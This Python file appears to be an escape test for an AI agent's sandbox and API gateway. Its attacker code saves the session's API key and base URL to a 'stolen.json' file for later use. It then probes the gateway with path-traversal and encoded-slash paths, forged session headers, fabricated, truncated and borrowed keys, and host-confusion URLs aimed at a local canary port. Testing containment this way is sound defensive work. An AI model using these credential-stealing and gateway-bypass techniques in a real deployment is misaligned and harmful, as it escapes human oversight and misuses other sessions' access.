"""The gateway: other paths than the model's, keys of other calls, other destinations, another session's name."""

from __future__ import annotations

import json
import os
import secrets
import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from tests.escape.attacker.kit import RefusedError, attempt, told
from tests.escape.attacker.network import SECONDS

STOLEN = Path("stolen.json")
"""Where an execute leaves its key for whoever comes later."""


def steal() -> None:
    """Keep this call's key and address."""
    url, key = os.environ.get("ANTHROPIC_BASE_URL", ""), os.environ.get("ANTHROPIC_API_KEY", "")
    if key:
        STOLEN.write_text(json.dumps({"url": url, "key": key}))


def send(stolen: dict[str, str], target: str, *, key: str | None = None, more: str = "", verb: str = "POST") -> str:
    """One request to the gateway; reached when it answers with success."""
    where = urlsplit(stolen["url"])
    body = json.dumps(
        {"model": "claude-opus-5-5", "max_tokens": 5, "messages": [{"role": "user", "content": "from the shell"}]}
    )
    head = (
        f"{verb} {target} HTTP/1.1\r\nHost: {where.netloc}\r\nConnection: close\r\nContent-Type: application/json\r\n"
    )
    shown = key if key is not None else stolen["key"]
    head += f"x-api-key: {shown}\r\n" if shown else ""
    with socket.create_connection((where.hostname or "", where.port or 80), SECONDS) as sock:
        sock.settimeout(20)
        sock.sendall(f"{head}{more}Content-Length: {len(body)}\r\n\r\n{body}".encode())
        answer = b""
        while chunk := sock.recv(65_536):
            answer += chunk
    line = answer.split(b"\r\n")[0].decode(errors="replace")
    if line.split(" ")[1:2] < ["200"] or line.split(" ")[1:2] >= ["300"]:
        raise RefusedError(line or "closed without a word")
    if not answer.partition(b"\r\n\r\n")[2]:
        raise RefusedError(f"{line}, and nothing more")
    return line


def main() -> None:
    known = told()
    steal()
    stolen: dict[str, str] = json.loads(STOLEN.read_text())
    attempt("gateway:own call", lambda: send(stolen, "/v1/messages", more="X-Overnight-Session: forged\r\n"))
    for label, target in _targets(known).items():
        attempt(f"gateway:{label}", _sending(stolen, target))
    attempt("gateway:another verb", lambda: send(stolen, "/v1/messages", verb="PUT"))
    attempt("gateway:no key", lambda: send(stolen, "/v1/messages", key=""))
    attempt("gateway:made-up key", lambda: send(stolen, "/v1/messages", key=f"overnight-{secrets.token_urlsafe(24)}"))
    attempt("gateway:shortened key", lambda: send(stolen, "/v1/messages", key=stolen["key"][:-1]))
    attempt("gateway:key of another call", lambda: send(stolen, "/v1/messages", key=known["key_of_another"]))
    bearer = f"Authorization: Bearer {known['key_of_another']}\r\n"
    attempt("gateway:bearer of another call", lambda: send(stolen, "/v1/messages", key="", more=bearer))


def _targets(known: dict[str, Any]) -> dict[str, str]:
    here = f"127.0.0.1:{known['canary_port']}"
    return {
        "models": "/v1/models",
        "files": "/v1/files",
        "batches": "/v1/messages/batches",
        "dots": "/v1/messages/../files",
        "coded dots": "/v1/messages/%2e%2e/files",
        "coded slash": "/v1/messages%2f..%2ffiles",
        "two slashes": "//v1/messages",
        "organisation": "/v1/organizations/api_keys",
        "whole URL": f"http://{here}/v1/messages/",
        "user part": f"@{here}/v1/messages",
        "other host": f"//{here}/v1/messages",
        "root": "/",
    }


def _sending(stolen: dict[str, str], target: str) -> Callable[[], str]:
    return lambda: send(stolen, target)


if __name__ == "__main__":
    main()
